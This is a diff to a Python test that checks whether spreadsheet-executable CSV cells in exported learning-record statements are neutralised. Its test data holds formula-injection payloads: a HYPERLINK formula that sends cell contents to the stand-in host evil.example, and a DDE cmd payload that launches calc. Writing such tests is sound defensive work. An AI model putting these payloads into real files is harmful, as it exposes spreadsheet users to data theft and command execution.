@@ -377,7 +377,7 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(fake_lrs):
     hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1)", "\tTAB", "\rCR"]
     statements = [statement(1, name=hostile[0], response=hostile[1], kind=hostile[2], item="=cmd"),
-                  statement(2, name="Bo", learner="bo", response=hostile[3], timestamp=hostile[4]),
+                  statement(2, name="Bo", learner="bo", response=hostile[3], item=hostile[4]),
                   statement(3, verb="answered", item="think", kind="reflection", response=hostile[5],
                             actor={"objectType": "Agent", "account": {"homePage": "=evil", "name": "x"}})]
     lrs = fake_lrs(answer_once(statements))
